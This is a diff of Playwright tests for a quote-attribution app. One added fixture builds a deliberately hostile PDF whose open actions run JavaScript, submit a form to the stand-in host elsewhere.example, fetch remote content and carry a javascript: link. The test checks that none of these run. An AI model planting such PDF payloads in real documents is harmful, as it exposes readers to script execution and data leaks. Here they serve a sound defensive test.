@@ -128,6 +128,49 @@ test('PDFs are read as they are printed: the text in order, heads of pages propo
   await text.focus();
   await page.keyboard.press('p');
   await expect(picked(page)).toContainText('The pier is safe for every boat');
+  // One sentence that its own verb breaks: two quotes of one speaker, and one utterance.
+  const record = page.getByRole('region', { name: 'Quote', exact: true });
+  for (const key of ['q', 'y', 'y', 'p', 'q', 'y', 'y']) await page.keyboard.press(key);
+  await expect(record.getByLabel('Speaker')).toHaveValue('Ilse Varga');
+  await expect(proposal(page, 'same utterance')).toContainText('only its reporting verb breaks');
+  await page.keyboard.press('y');
+  await expect(record.getByText('Joined with 1 other rendering as one statement.')).toBeVisible();
+});
+
+/** A PDF that would run a script, open an address and fetch its own words, were it asked to. */
+function hostilePdf(): Buffer {
+  const words = 'BT /F 12 Tf 50 700 Td (The mayor said the pier is safe.) Tj ET';
+  const objects = [
+    '<</Type/Catalog/Pages 2 0 R/OpenAction 7 0 R/AA<</WC 7 0 R>>>>',
+    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[4 0 R 6 0 R]/AA<</O 7 0 R>>/Annots[8 0 R]/Resources<</Font<</F 5 0 R>>>>>>',
+    `<</Length ${words.length}>>stream\n${words}\nendstream`,
+    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>',
+    '<</Length 0/FFilter/FlateDecode/F<</FS/URL/F(https://elsewhere.example/words)>>>>stream\n\nendstream',
+    '<</S/JavaScript/JS(app.alert\\("owned"\\); this.submitForm\\("https://elsewhere.example/"\\);)>>',
+    '<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>',
+  ];
+  let file = '%PDF-1.7\n';
+  const places = objects.map((object, i) => {
+    const at = file.length;
+    file += `${i + 1} 0 obj${object}endobj\n`;
+    return `${String(at).padStart(10, '0')} 00000 n \n`;
+  });
+  const size = objects.length + 1;
+  return Buffer.from(
+    `${file}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer<</Size ${size}/Root 1 0 R>>\nstartxref\n${file.length}\n%%EOF\n`,
+  );
+}
+
+test('no script, link or address of a PDF runs or is asked: its words are taken, and nothing else', async ({
+  page,
+}) => {
+  await begin(page);
+  await page
+    .getByLabel(/^Or choose files/)
+    .setInputFiles({ name: 'pier.pdf', mimeType: 'application/pdf', buffer: hostilePdf() });
+  await expect(page.getByRole('region', { name: /^Text of/ })).toHaveText('The mayor said the pier is safe.');
+  await expect(page.locator('main a[href^="javascript:"], main a[href*="elsewhere"]')).toHaveCount(0);
 });
 
 test('codes come from a file of another tool, from a bundled case and from oneself, and are given with marked words', async ({
@@ -186,6 +229,32 @@ test('two tabs that name the case differently keep both names and show the choic
   await expect(choice).toHaveCount(0);
   await expect(left.getByLabel('Name of the case')).toHaveValue('The right pier');
   await expect(right.getByRole('region', { name: 'Decided twice' })).toHaveCount(0);
+});
+
+test('two tabs that give one quote two speakers show both by their names', async ({ context }) => {
+  const left = await context.newPage();
+  await begin(left);
+  await bring(left, 0);
+  await textOf(left, HEADLINES[0] as string).focus();
+  for (const key of ['p', 'q']) await left.keyboard.press(key);
+  await expect(saved(left)).toBeVisible();
+  const right = await context.newPage();
+  await right.goto(left.url());
+  await right.getByRole('button', { name: /^The pier is safe/ }).click();
+  const speaker = (page: Page) =>
+    page
+      .getByRole('region', { name: 'Quote', exact: true })
+      .getByRole('textbox', { name: 'Speaker', exact: true });
+  await speaker(left).fill('Ilse Varga');
+  await speaker(right).fill('Jan Oster');
+  await speaker(left).press('Enter');
+  await speaker(right).press('Enter');
+  const choice = left.getByRole('region', { name: 'Decided twice' });
+  await expect(choice).toContainText('Speaker');
+  await expect(choice.getByRole('button', { name: 'Use “Jan Oster”' })).toBeVisible();
+  await choice.getByRole('button', { name: 'Use “Ilse Varga”' }).click();
+  await expect(choice).toHaveCount(0);
+  await expect(speaker(right)).toHaveValue('Ilse Varga');
 });
 
 test('a record of the bundled case is edited in a copy, which any record of it leads back to', async ({
